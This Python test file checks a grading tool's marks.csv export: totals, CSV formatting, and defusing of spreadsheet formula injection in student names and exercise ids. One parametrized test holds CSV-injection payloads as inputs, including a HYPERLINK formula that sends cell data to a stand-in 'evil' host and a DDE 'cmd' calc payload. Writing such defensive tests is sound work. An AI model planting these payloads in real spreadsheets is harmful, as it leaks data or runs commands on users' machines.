"""marks.csv: right numbers, names as they are, and no formula whoever wrote the text."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from grader.defuse import defuse_cell
from grader.report.marks import TOTAL, marks_csv
from grader.results import Results, Row

from .sample import HUBER, STUDENTS, sample

STARTS = "=+-@＝＋－＠"


def table(results: Results, delimiter: str = ",") -> list[list[str]]:
    """The cells as a spreadsheet program reads them."""
    text = marks_csv(results).encode().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def of_student(name: str) -> Results:
    """The sample with one student of that name."""
    return dataclasses.replace(sample(), results=(Row(name, "huber", "graded", 1.0, 10.0),))


def test_rows_and_totals() -> None:
    """A row per student and exercise, a total each; the same numbers as on the class page."""
    header, *rows = table(sample())
    assert header[:5] == ["student", "exercise", "status", "points", "max_points"]
    assert header[5:] == ["penalty", "change", "counts"]
    assert all(row[5:] == ["", "", row[3]] for row in rows), "nothing is changed in the sample"
    by = {(row[0], row[1]): row[2:5] for row in rows}
    assert by["ada", "huber"] == ["graded", "10", "10"]
    assert by["ada", TOTAL] == ["", "21", "25"]
    assert by["missing-mo", "precision"] == ["missing", "0", "10"]
    assert by["syntax-sam", "precision"][0] == "unreadable"
    assert by["luc-émile", "pipeline"] == ["grader_error", "", ""]
    assert by["luc-émile", TOTAL] == ["", "17", "20"]
    assert by["almost-al", "huber"] == ["graded", "8", "8"]
    assert by["王小明", TOTAL][2] == "25"
    assert sum(row[1] == TOTAL for row in rows) == len(STUDENTS)
    assert ("zoë two spaces", "pipeline") not in by
    assert len(by) == len(rows)


def test_spreadsheets_read_it_without_asking() -> None:
    """A byte order mark for Excel, lines as RFC 4180 has them, numbers that are numbers."""
    text = marks_csv(sample())
    assert text.startswith('\ufeff"student","exercise"')
    assert text.endswith("\r\n")
    assert text.count("\n") == text.count("\r\n")
    assert '"王小明"' in text
    assert ',"graded",10,10,"","",10\r\n' in text
    assert ',21,25,"","",21\r\n' in text


def test_points_are_exact() -> None:
    """Halves and thirds come as they are in results.json, whole numbers without a point."""
    rows = (Row("ada", "huber", "graded", 3.3333, 10.0), Row("bob", "huber", "graded", 2.5, 10.0))
    cells = table(dataclasses.replace(sample(), results=rows))
    assert [row[3:5] for row in cells[1:]] == [["3.3333", "10"]] * 2 + [["2.5", "10"]] * 2


def test_an_empty_class() -> None:
    """Only the header."""
    assert len(table(dataclasses.replace(sample(), results=()))) == 1


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://evil/?"&A1,"ada")', '\'=HYPERLINK("http://evil/?"&A1,"ada")'),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+49 123", "'+49 123"),
        ("-anna-", "'-anna-"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'=1"),
        ("\r=1", "'=1"),
        ("\n =1", "'=1"),
        ("\u200b=1", "'=1"),
        ("\ufeff=1", "'=1"),
        ("\x00=1", "'=1"),
        ("\x1b[31m=1", "'=1"),
        ("＝1+1", "'＝1+1"),
        ("'=1", "'=1"),
        ('O\'Brien, Pat "PJ"', 'O\'Brien, Pat "PJ"'),
        ("a\r\n=1,2", "a =1,2"),
        ("王小明", "王小明"),
        ("", ""),
    ],
)
def test_formulas_are_text(name: str, cell: str) -> None:
    """What a program would run begins with an apostrophe; every name is still recognised."""
    assert defuse_cell(name) == cell
    assert table(of_student(name))[1][0] == cell


@given(
    st.text(max_size=30)
    | st.sampled_from("=+-@\t\r\n ;,\"'").flatmap(
        lambda first: st.text("=+-@\t\r\n ;,\"'a1", max_size=12).map(lambda rest: first + rest)
    )
)
def test_no_cell_begins_a_formula(name: str) -> None:
    """For any name, and also where the semicolon is the separator: no cell begins a formula."""
    for row in table(of_student(name.encode("utf-8", "ignore").decode())):
        assert len(row) == 8
        assert not row[0].startswith(tuple(STARTS))
    for row in table(of_student(name.encode("utf-8", "ignore").decode()), delimiter=";"):
        assert not [cell for cell in row if cell.startswith(tuple(STARTS))]


def test_a_name_of_a_megabyte() -> None:
    """Is cut, and says so."""
    cell = table(of_student("=" * 2**20))[1][0]
    assert cell.startswith("'===")
    assert len(cell) < 4100


def test_long_names_are_whole() -> None:
    """Two whose names differ far behind aren't one student twice."""
    names = [f"{'Ada ' * 80}{last}" for last in ("Byron", "Lovelace")]
    rows = tuple(Row(name, "huber", "graded", 1.0, 10.0) for name in names)
    cells = table(dataclasses.replace(sample(), results=rows))
    assert {row[0] for row in cells[1:]} == set(names)


def test_ids_written_by_hand_are_text_too() -> None:
    """An exercise's id in a results.json that somebody edited."""
    spec = dataclasses.replace(HUBER, id="=1+1", checks=())
    row = Row("ada", "=1+1", "graded", 0.0, 10.0)
    results = dataclasses.replace(sample(), exercises=(spec,), results=(row,))
    assert table(results)[1][1] == "'=1+1"
